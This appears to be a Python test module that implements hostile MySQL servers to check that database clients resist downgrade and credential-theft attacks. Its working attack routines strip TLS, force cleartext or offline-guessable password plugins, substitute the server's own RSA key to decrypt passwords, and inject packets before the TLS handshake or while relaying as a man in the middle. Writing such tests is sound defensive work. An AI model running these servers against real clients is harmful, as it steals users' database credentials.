"""Hostile MySQL servers (MySQL internals, "Connection Phase"; MariaDB Knowledge Base, "Connection Protocol").

Whatever a client does after the attack, it is asked for its password, by the authentication plugin of the attack.
"""

import socket
import struct
from collections.abc import Callable
from functools import cache

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.hostile.stage import INJECTED, SALT, Stage
from tests.hostile.wire import SAFETY_SECONDS, Wire

CLIENT_SSL = 0x800
# LONG_PASSWORD, LONG_FLAG, CONNECT_WITH_DB, PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION, PLUGIN_AUTH, CONNECT_ATTRS,
# PLUGIN_AUTH_LENENC_CLIENT_DATA: what every server of the last ten years has, but for CLIENT_SSL.
CAPABILITIES = 0x1 | 0x4 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x80000 | 0x100000 | 0x200000

OK = b"\x00\x00\x00\x02\x00\x00\x00"
ERROR = b"\xff" + struct.pack("<H", 1045) + b"#28000" + INJECTED

# Not the salt that the plugins use: what a client scrambles at once must not pass for what a plugin asked it for.
GREETING_SALT = b"salt-of-the-greeting"

# The sequence number of a server's first packet inside TLS: greeting 0, SSL request 1, login 2.
FIRST_INSIDE = 3

Answer = Callable[[Wire, Stage], None]
# Gets the client's login packet's number, and asks for the password.
Plugin = Callable[[Wire, int], None]


def _packet(number: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([number]) + payload


def _read(wire: Wire) -> tuple[int, bytes]:
    header = wire.read(4)
    return header[3], wire.read(int.from_bytes(header[:3], "little"))


def _greeting(capabilities: int) -> bytes:
    low, high = capabilities & 0xFFFF, capabilities >> 16
    return _packet(
        0,
        b"\x0a8.0.36\0"
        + struct.pack("<I", 1)
        + GREETING_SALT[:8]
        + struct.pack("<xHBHHB10x", low, 45, 2, high, len(GREETING_SALT) + 1)
        + GREETING_SALT[8:]
        + b"\0mysql_native_password\0",
    )


def _switch(wire: Wire, number: int, plugin: bytes, data: bytes) -> tuple[int, bytes]:
    wire.send(_packet(number + 1, b"\xfe" + plugin + b"\0" + data))
    return _read(wire)


def clear_password(wire: Wire, number: int) -> None:
    """Ask for the password as it is."""
    _switch(wire, number, b"mysql_clear_password", b"")


def native_password(wire: Wire, number: int) -> None:
    """Ask for the password's SHA-1 scramble, which can be guessed offline."""
    _switch(wire, number, b"mysql_native_password", SALT + b"\0")


def dialog(wire: Wire, number: int) -> None:
    """Ask for the password by the prompt that MariaDB's PAM plugin uses."""
    _switch(wire, number, b"dialog", b"\x05Password: ")


def sha256_password(wire: Wire, number: int) -> None:
    """Ask for the password under an RSA key of the peer's own."""
    number, _ = _switch(wire, number, b"sha256_password", SALT + b"\0")
    _offer_key(wire, number)


def caching_sha2_password(wire: Wire, number: int) -> None:
    """Refuse the scramble, and ask for the password under an RSA key of the peer's own."""
    number, _ = _switch(wire, number, b"caching_sha2_password", SALT + b"\0")
    wire.send(_packet(number + 1, b"\x01\x04"))  # perform_full_authentication
    number, _ = _read(wire)
    _offer_key(wire, number)


def _offer_key(wire: Wire, number: int) -> None:
    public = _key().public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    wire.send(_packet(number + 1, b"\x01" + public))
    _, encrypted = _read(wire)
    # MySQL's sha2_password.cc: the password and its NUL, XORed with the salt, under RSA with OAEP and SHA-1.
    scheme = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303 - the protocol's choice
    scrambled = _key().decrypt(encrypted, scheme)
    wire.recovered += bytes(byte ^ SALT[index % len(SALT)] for index, byte in enumerate(scrambled))


@cache
def _key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(65537, 2048)


def hide_tls(plugin: Plugin) -> Answer:
    """Greet without CLIENT_SSL, and ask for the password by this plugin."""

    def script(wire: Wire, _: Stage) -> None:
        wire.send(_greeting(CAPABILITIES))
        number, _login = _read(wire)
        plugin(wire, number)
        wire.hang_up()

    return script


def answer_in_clear(answer: bytes) -> Answer:
    """Greet with CLIENT_SSL, and answer the SSL request with a packet in place of a handshake."""

    def script(wire: Wire, _: Stage) -> None:
        wire.send(_greeting(CAPABILITIES | CLIENT_SSL))
        number, _request = _read(wire)
        wire.send(_packet(number + 1, answer))
        wire.listen()

    return script


def accept(wire: Wire, stage: Stage) -> None:
    """Greet with CLIENT_SSL, and shake hands with the certificate of the attack."""
    inject(b"")(wire, stage)


def inject(payload: bytes) -> Answer:
    """Greet with CLIENT_SSL and a packet in the same segment, and shake hands with the certificate of the attack."""

    def script(wire: Wire, stage: Stage) -> None:
        wire.send(_greeting(CAPABILITIES | CLIENT_SSL) + _injection(payload))
        number, request = _read(wire)
        if int.from_bytes(request[:4], "little") & CLIENT_SSL:
            wire.start_tls(stage.context)
            number, _ = _read(wire)
        clear_password(wire, number)
        wire.hang_up()

    return script


def inject_and_relay(payload: bytes) -> Answer:
    """Sit between the client and the real server, and put a packet behind its greeting; none with no payload."""

    def script(wire: Wire, stage: Stage) -> None:
        with socket.create_connection(stage.upstream, SAFETY_SECONDS) as upstream, upstream.makefile("rb", 0) as stream:
            header = stream.read(4) or b""
            greeting = stream.read(int.from_bytes(header[:3], "little")) or b""
            wire.send(header + greeting + _injection(payload))
            wire.relay(upstream)
            wire.hang_up()

    return script


def _injection(payload: bytes) -> bytes:
    return _packet(FIRST_INSIDE, payload) if payload else b""


def close(wire: Wire, _: Stage) -> None:
    """Greet with CLIENT_SSL, and close after the SSL request."""
    wire.send(_greeting(CAPABILITIES | CLIENT_SSL))
    _read(wire)
    wire.hang_up()


def stall(wire: Wire, _: Stage) -> None:
    """Send no greeting."""
    wire.listen()


def stall_handshake(wire: Wire, _: Stage) -> None:
    """Greet with CLIENT_SSL, and answer nothing to the ClientHello."""
    wire.send(_greeting(CAPABILITIES | CLIENT_SSL))
    wire.listen()
